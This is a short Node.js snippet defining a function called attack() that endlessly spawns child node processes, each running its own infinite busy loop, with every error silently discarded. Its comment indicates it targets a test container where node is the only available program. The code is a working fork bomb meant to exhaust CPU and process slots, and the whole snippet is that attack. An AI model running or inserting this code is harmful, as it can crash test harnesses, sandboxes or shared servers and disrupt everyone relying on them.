const { spawn } = require("node:child_process");

// The tests' own interpreter is the only program in the image: each child costs little until it runs.
function attack() {
  for (;;) {
    try {
      spawn("/usr/bin/node", ["-e", "for (;;);"], { stdio: "ignore" }).on("error", () => {});
    } catch {}
  }
}
